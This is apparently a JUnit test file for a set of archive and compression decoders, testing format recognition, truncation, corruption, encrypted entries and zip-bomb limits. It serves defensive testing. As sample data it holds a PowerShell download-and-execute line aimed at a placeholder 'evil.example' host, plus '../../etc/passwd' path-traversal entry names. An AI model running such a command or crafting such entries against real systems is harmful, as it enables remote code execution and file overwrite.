package dev.spoor.decoder.archive;

import static org.junit.jupiter.api.Assertions.assertArrayEquals;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;
import static org.junit.jupiter.api.Assumptions.assumeTrue;

import dev.spoor.api.Decoder;
import dev.spoor.api.Piece;
import dev.spoor.api.Pieces;
import dev.spoor.api.ProviderException;
import dev.spoor.api.Span;
import dev.spoor.api.data.Batch;
import dev.spoor.api.data.Schema;
import dev.spoor.api.data.Sink;
import dev.spoor.tck.MemoryCall;
import dev.spoor.tck.MemoryContext;
import dev.spoor.tck.MemoryPiece;
import dev.spoor.tck.MemoryPieces;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.ByteOrder;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.security.MessageDigest;
import java.util.Arrays;
import java.util.HexFormat;
import java.util.List;
import java.util.Random;
import java.util.zip.CRC32;
import java.util.zip.GZIPOutputStream;
import org.apache.commons.compress.archivers.sevenz.SevenZArchiveEntry;
import org.apache.commons.compress.archivers.sevenz.SevenZOutputFile;
import org.apache.commons.compress.archivers.tar.TarArchiveEntry;
import org.apache.commons.compress.archivers.tar.TarArchiveOutputStream;
import org.apache.commons.compress.archivers.zip.ZipArchiveEntry;
import org.apache.commons.compress.archivers.zip.ZipArchiveOutputStream;
import org.apache.commons.compress.compressors.bzip2.BZip2CompressorOutputStream;
import org.apache.commons.compress.compressors.deflate.DeflateCompressorOutputStream;
import org.apache.commons.compress.compressors.deflate.DeflateParameters;
import org.apache.commons.compress.compressors.lzma.LZMACompressorOutputStream;
import org.apache.commons.compress.compressors.xz.XZCompressorOutputStream;
import org.apache.commons.compress.utils.SeekableInMemoryByteChannel;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

class ArchiveTest {
    @TempDir
    Path temp;

    private static final byte[] TEXT = text(200_000);

    private static byte[] text(int length) {
        byte[] text = new byte[length];
        Random random = new Random(1);
        for (int i = 0; i < length; i++) {
            text[i] = (byte) ('a' + random.nextInt(26));
        }
        return text;
    }

    private MemoryPieces decode(Decoder decoder, String name, byte[] bytes, MemoryCall call)
            throws ProviderException, IOException {
        MemoryPieces pieces = new MemoryPieces();
        decoder.open(new MemoryContext(temp)).decode(new MemoryPiece(name, Piece.BYTES, bytes), pieces, call);
        return pieces;
    }

    private static byte[] gzip(byte[] bytes) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream gzip = new GZIPOutputStream(out)) {
            gzip.write(bytes);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toByteArray();
    }

    private static byte[] zip(String... names) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
            for (String name : names) {
                zip.putArchiveEntry(new ZipArchiveEntry(name));
                if (!name.endsWith("/")) {
                    zip.write(TEXT);
                }
                zip.closeArchiveEntry();
            }
        }
        return out.toByteArray();
    }

    private static byte[] tar(String... names) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (TarArchiveOutputStream tar = new TarArchiveOutputStream(out)) {
            for (String name : names) {
                TarArchiveEntry entry = new TarArchiveEntry(name);
                entry.setSize(TEXT.length);
                tar.putArchiveEntry(entry);
                tar.write(TEXT);
                tar.closeArchiveEntry();
            }
        }
        return out.toByteArray();
    }

    private static byte[] bzip2() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream bzip2 = new BZip2CompressorOutputStream(out, 1)) {
            bzip2.write(TEXT);
        }
        return out.toByteArray();
    }

    private static byte[] xz(byte[] bytes) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream xz = new XZCompressorOutputStream(out)) {
            xz.write(bytes);
        }
        return out.toByteArray();
    }

    private static byte[] lzma() throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (OutputStream lzma = new LZMACompressorOutputStream(out)) {
            lzma.write(TEXT);
        }
        return out.toByteArray();
    }

    private static byte[] deflated(byte[] bytes, boolean zlib) throws IOException {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        DeflateParameters parameters = new DeflateParameters();
        parameters.setWithZlibHeader(zlib);
        try (OutputStream deflate = new DeflateCompressorOutputStream(out, parameters)) {
            deflate.write(bytes);
        }
        return out.toByteArray();
    }

    private static byte[] sevenZip(String... names) throws IOException {
        SeekableInMemoryByteChannel channel = new SeekableInMemoryByteChannel();
        try (SevenZOutputFile out = new SevenZOutputFile(channel)) {
            for (String name : names) {
                SevenZArchiveEntry entry = new SevenZArchiveEntry();
                entry.setName(name);
                out.putArchiveEntry(entry);
                out.write(TEXT);
                out.closeArchiveEntry();
            }
        }
        return Arrays.copyOf(channel.array(), (int) channel.size());
    }

    @Test
    void sevenZipGivesItsFilesAndWhatIsCutOffIsSaid() throws Exception {
        MemoryCall call = new MemoryCall();
        byte[] archive = sevenZip("b/\u00fc.txt", "../../etc/passwd", "a");
        MemoryPieces pieces = decode(new SevenZip(), "f.7z", archive, call);
        assertEquals(
                List.of("b/\u00fc.txt", "../../etc/passwd", "a"),
                pieces.found().stream().map(MemoryPieces.Found::name).toList());
        pieces.found().forEach(found -> assertArrayEquals(TEXT, found.bytes()));
        assertTrue(call.problems().isEmpty(), call.problems().toString());
        ProviderException e = assertThrows(
                ProviderException.class,
                () -> decode(new SevenZip(), "f.7z", Arrays.copyOf(archive, archive.length / 2), call));
        assertTrue(e.getMessage().contains("damaged or cut off"), e.getMessage());
        try (var left = Files.list(temp)) {
            assertEquals(List.of(), left.toList());
        }
    }

    @Test
    void xzGivesAllStreams() throws Exception {
        ByteArrayOutputStream two = new ByteArrayOutputStream();
        two.write(xz("one ".getBytes(StandardCharsets.UTF_8)));
        two.write(xz("two".getBytes(StandardCharsets.UTF_8)));
        MemoryPieces pieces = decode(new Xz(), "a.log.xz", two.toByteArray(), new MemoryCall());
        assertEquals("one two", pieces.found().get(0).text());
        assertEquals("a.log", pieces.found().get(0).name());
    }

    /** Bare deflate has no mark: short scripts are known by what they inflate to, noise is not. */
    @Test
    void deflateIsKnownByWhatItInflatesTo() throws Exception {
        byte[] script = "IEX (New-Object Net.WebClient).DownloadString('http://evil.example/a')"
                .getBytes(StandardCharsets.UTF_8);
        assertEquals(30, probe(new Deflate(), deflated(script, false)));
        assertEquals(60, probe(new Zlib(), deflated(script, true)));
        assertEquals(
                30,
                probe(
                        new Deflate(),
                        deflated(
                                new String(script, StandardCharsets.UTF_8).getBytes(StandardCharsets.UTF_16LE),
                                false)));
        Random random = new Random(3);
        int wrong = 0;
        for (int i = 0; i < 20_000; i++) {
            byte[] noise = new byte[8 + random.nextInt(200)];
            random.nextBytes(noise);
            wrong += probe(new Deflate(), noise) + probe(new Zlib(), noise) > 0 ? 1 : 0;
            for (int k = 0; k < noise.length; k++) {
                noise[k] = (byte) (' ' + (noise[k] & 0x3f));
            }
            wrong += probe(new Deflate(), noise) > 0 ? 1 : 0;
        }
        assertTrue(wrong <= 4, wrong + " of 60,000 noises taken for deflate");
    }

    @Test
    void eachFormIsRecognisedByItsOwnDecoderOnly() throws IOException {
        List<Decoder> decoders = List.of(
                new Gzip(), new Bzip2(), new Zip(), new Tar(), new Xz(), new Lzma(), new Zlib(), new SevenZip());
        List<byte[]> forms = List.of(
                gzip(TEXT), bzip2(), zip("a"), tar("a"), xz(TEXT), lzma(), deflated(TEXT, true), sevenZip("a"), TEXT);
        for (int f = 0; f < forms.size(); f++) {
            for (int d = 0; d < decoders.size(); d++) {
                byte[] form = forms.get(f);
                for (int length : new int[] {0, 1, 9, 21, 511, 512, Math.min(form.length, 1 << 16)}) {
                    int score = decoders.get(d).descriptor().accepts().contains(Piece.BYTES)
                            ? probe(decoders.get(d), Arrays.copyOf(form, length))
                            : 0;
                    assertTrue(f == d || score == 0, decoders.get(d).descriptor() + " of form " + f);
                    assertTrue(
                            f != d || length < 512 || score >= 60,
                            decoders.get(d).descriptor() + " at " + length);
                }
            }
        }
    }

    private static int probe(Decoder decoder, byte[] bytes) {
        try (Decoder.Session session = decoder.open(new MemoryContext(Path.of("unused")))) {
            return session.probe(bytes, 0, bytes.length);
        } catch (ProviderException e) {
            throw new AssertionError(e);
        }
    }

    @Test
    void gzipGivesAllMembersUnderTheNameWithoutSuffix() throws Exception {
        ByteArrayOutputStream two = new ByteArrayOutputStream();
        two.write(gzip("one ".getBytes(StandardCharsets.UTF_8)));
        two.write(gzip("two".getBytes(StandardCharsets.UTF_8)));
        MemoryCall call = new MemoryCall();
        MemoryPieces pieces = decode(new Gzip(), "auth.log.1.GZ", two.toByteArray(), call);
        assertEquals("one two", pieces.found().get(0).text());
        assertEquals("auth.log.1", pieces.found().get(0).name());
        assertEquals(
                "x.tar",
                decode(new Gzip(), "x.tgz", gzip(TEXT), call).found().get(0).name());
        assertTrue(call.problems().isEmpty());
    }

    @Test
    void aCutOffFileGivesWhatItHasAndAProblem() throws Exception {
        for (Object[] form : new Object[][] {
            {new Gzip(), gzip(TEXT)},
            {new Bzip2(), bzip2()},
            {new Zip(), zip("a")},
            {new Tar(), tar("a")},
            {new Xz(), xz(TEXT)},
            {new Lzma(), lzma()},
            {new Zlib(), deflated(TEXT, true)},
            {new Deflate(), deflated(TEXT, false)}
        }) {
            byte[] bytes = (byte[]) form[1];
            MemoryCall call = new MemoryCall();
            MemoryPieces pieces = decode((Decoder) form[0], "f", Arrays.copyOf(bytes, bytes.length / 4 * 3), call);
            assertEquals(1, call.problems().size(), form[0].getClass().getSimpleName());
            byte[] kept = pieces.found().get(0).bytes();
            assertTrue(kept.length < TEXT.length);
            assertTrue(kept.length > 0);
            assertArrayEquals(Arrays.copyOf(TEXT, kept.length), kept);
        }
    }

    /** Cut a few bytes from the end: libraries throw in the middle of a read, and a small file is one read. */
    @Test
    void whatStandsBeforeTheCutIsKeptToTheLastBytes() throws Exception {
        byte[] small = text(1000);
        keepsAllBut(64, new Gzip(), small, gzip(small), 12);
        keepsAllBut(64, new Zlib(), small, deflated(small, true), 8);
        keepsAllBut(64, new Deflate(), small, deflated(small, false), 8);
        keepsAllBut(64, new Lzma(), TEXT, lzma(), 30);
        keepsAllBut(0, new Xz(), small, xz(small), 10); // of its index
        keepsAllBut(100_100, new Bzip2(), TEXT, bzip2(), 20); // a block is read whole or not at all
        byte[] changed = gzip(TEXT);
        Arrays.fill(changed, changed.length - 300, changed.length - 200, (byte) 0xff);
        keepsAllBut(2048, new Gzip(), TEXT, changed, 0);
    }

    private void keepsAllBut(int lost, Decoder decoder, byte[] content, byte[] packed, int cut) throws Exception {
        MemoryCall call = new MemoryCall();
        byte[] kept = decode(decoder, "f", Arrays.copyOf(packed, packed.length - cut), call)
                .found()
                .get(0)
                .bytes();
        String id = decoder.descriptor().id();
        assertEquals(1, call.problems().size(), id + call.problems());
        assertTrue(kept.length >= content.length - lost, id + " keeps " + kept.length);
        if (cut > 0) {
            assertArrayEquals(Arrays.copyOf(content, kept.length), kept, id);
        }
    }

    @Test
    void archivesGiveTheirFilesInOrderWithWhateverNames() throws Exception {
        MemoryCall call = new MemoryCall();
        List<String> names = List.of("b/ü.txt", "../../etc/passwd", "a");
        for (MemoryPieces pieces : List.of(
                decode(new Zip(), "f", zip("b/", "b/ü.txt", "../../etc/passwd", "a"), call),
                decode(new Tar(), "f", tar("b/ü.txt", "../../etc/passwd", "a"), call))) {
            assertEquals(
                    names, pieces.found().stream().map(MemoryPieces.Found::name).toList());
            pieces.found().forEach(found -> assertArrayEquals(TEXT, found.bytes()));
        }
        assertTrue(call.problems().isEmpty(), call.problems().toString());
    }

    @Test
    void aWrongChecksumIsSaid() throws Exception {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try (ZipArchiveOutputStream zip = new ZipArchiveOutputStream(out)) {
            zip.setMethod(ZipArchiveOutputStream.STORED);
            for (String name : List.of("bad", "good")) {
                ZipArchiveEntry entry = new ZipArchiveEntry(name);
                entry.setSize(TEXT.length);
                java.util.zip.CRC32 crc = new java.util.zip.CRC32();
                crc.update(TEXT);
                entry.setCrc(crc.getValue());
                zip.putArchiveEntry(entry);
                zip.write(TEXT);
                zip.closeArchiveEntry();
            }
        }
        byte[] bytes = out.toByteArray();
        bytes[1000] ^= 1;
        MemoryCall call = new MemoryCall();
        MemoryPieces pieces = decode(new Zip(), "f.zip", bytes, call);
        assertEquals(2, pieces.found().size());
        assertEquals(1, call.problems().size());
        assertEquals("entry bad", call.problems().get(0).place().orElseThrow());
    }

    /** The library looks for the end of such an entry in memory. */
    @Test
    void aStoredEntryOfUnknownLengthIsReadUpToALimit() throws Exception {
        MemoryCall call = new MemoryCall();
        assertArrayEquals(
                TEXT,
                decode(new Zip(), "f", storedWithoutLength(TEXT), call)
                        .found()
                        .get(0)
                        .bytes());
        assertEquals(List.of(), call.problems());
        MemoryPieces pieces = decode(new Zip(), "f", storedWithoutLength(text(17 << 20)), call);
        assertTrue(pieces.found().stream().allMatch(found -> found.bytes().length == 0), "nothing of it is kept");
        assertTrue(call.problems().toString().contains("does not say how long it is"), call.problems()::toString);
    }

    private static byte[] storedWithoutLength(byte[] content) {
        CRC32 crc = new CRC32();
        crc.update(content);
        ByteBuffer zip =
                ByteBuffer.allocate(30 + 1 + content.length + 16 + 47 + 22).order(ByteOrder.LITTLE_ENDIAN);
        zip.putInt(0x04034b50).putShort((short) 20).putShort((short) 8).putShort((short) 0);
        zip.putInt(0x5c714000).putInt(0).putInt(0).putInt(0).putShort((short) 1).putShort((short) 0);
        zip.put((byte) 'a').put(content);
        zip.putInt(0x08074b50)
                .putInt((int) crc.getValue())
                .putInt(content.length)
                .putInt(content.length);
        zip.putInt(0x02014b50)
                .putInt(0x00140014)
                .putShort((short) 8)
                .putShort((short) 0)
                .putInt(0x5c714000);
        zip.putInt((int) crc.getValue())
                .putInt(content.length)
                .putInt(content.length)
                .putShort((short) 1);
        zip.position(zip.position() + 16).put((byte) 'a').putInt(0x06054b50);
        return zip.array();
    }

    @Test
    void encryptedEntriesAreNamedAndSkipped() throws Exception {
        byte[] bytes = zip("secret", "b");
        bytes[6] |= 1; // general purpose bit 0 of the first local header
        MemoryCall call = new MemoryCall();
        decode(new Zip(), "f.zip", bytes, call);
        assertTrue(
                call.problems().get(0).message().contains("encrypted"),
                call.problems().toString());
    }

    @Test
    void damageNeverEscapesOtherwise() throws IOException {
        Random random = new Random(2);
        Object[][] forms = {
            {new Gzip(), gzip(TEXT)},
            {new Bzip2(), bzip2()},
            {new Zip(), zip("a", "b")},
            {new Tar(), tar("a", "b")},
            {new Xz(), xz(TEXT)},
            {new Lzma(), lzma()},
            {new Zlib(), deflated(TEXT, true)},
            {new Deflate(), deflated(TEXT, false)},
            {new SevenZip(), sevenZip("a", "b")}
        };
        for (int i = 0; i < 100 * forms.length; i++) {
            Object[] form = forms[i % forms.length];
            byte[] bytes = ((byte[]) form[1]).clone();
            for (int k = random.nextInt(20); k >= 0; k--) {
                bytes[random.nextInt(random.nextBoolean() ? bytes.length : 600)] = (byte) random.nextInt();
            }
            try {
                decode((Decoder) form[0], "f", bytes, new MemoryCall());
            } catch (ProviderException expected) {
                assertTrue(expected.getMessage().startsWith("f: "), expected.getMessage());
            }
        }
    }

    /** The host ends a bomb by failing the write: that must end the decoding at once, not be taken for damage. */
    @Test
    void theHostsLimitEndsABomb() throws IOException {
        byte[] zeros = new byte[64 << 20];
        theHostsLimitEnds(new Gzip(), gzip(zeros));
        theHostsLimitEnds(new Xz(), xz(zeros));
        theHostsLimitEnds(new Zlib(), deflated(zeros, true));
    }

    private void theHostsLimitEnds(Decoder decoder, byte[] bomb) {
        int[] written = {0};
        Pieces limited = new Pieces() {
            @Override
            public void put(String name, String form, Span from, byte[] bytes) {
                throw new AssertionError();
            }

            @Override
            public OutputStream begin(String name, String form, Span from) {
                return new OutputStream() {
                    @Override
                    public void write(int b) {
                        throw new AssertionError();
                    }

                    @Override
                    public void write(byte[] b, int off, int len) throws IOException {
                        written[0] += len;
                        if (written[0] > 1 << 20) {
                            throw new IOException("the limit");
                        }
                    }
                };
            }

            @Override
            public Sink<Batch> rows(String name, Schema schema, Span from) {
                throw new AssertionError();
            }
        };
        MemoryCall call = new MemoryCall();
        IOException end = assertThrows(
                IOException.class,
                () -> decoder.open(new MemoryContext(temp))
                        .decode(new MemoryPiece("bomb.gz", Piece.BYTES, bomb), limited, call));
        assertEquals("the limit", end.getMessage());
        assertTrue(written[0] < 2 << 20);
        assertTrue(call.problems().isEmpty());
    }

    @Test
    void agreesWithOthersOnRealFiles() throws Exception {
        String data = System.getProperty("spoor.testdata");
        assumeTrue(data != null, "skipped: give real data with -Dspoor.testdata=DIR");
        Path archives = Path.of(data, "data", "archives");
        assertEquals("8b32710e60ce9f650b8b4dcc2b3ee927", md5(new Gzip(), archives.resolve("syslog.gz")));
        assertEquals("8b32710e60ce9f650b8b4dcc2b3ee927", md5(new Zip(), archives.resolve("syslog.zip")));
        try (var files = Files.list(Path.of(data, "data", "windows", "zip"))) {
            for (Path file : files.toList()) {
                MemoryCall call = new MemoryCall();
                assertEquals(
                        1,
                        decode(new Zip(), file.toString(), Files.readAllBytes(file), call)
                                .found()
                                .size());
                assertTrue(call.problems().isEmpty(), file + ": " + call.problems());
            }
        }
    }

    private String md5(Decoder decoder, Path file) throws Exception {
        MemoryPieces pieces =
                decode(decoder, file.getFileName().toString(), Files.readAllBytes(file), new MemoryCall());
        return HexFormat.of()
                .formatHex(MessageDigest.getInstance("MD5")
                        .digest(pieces.found().get(0).bytes()));
    }
}
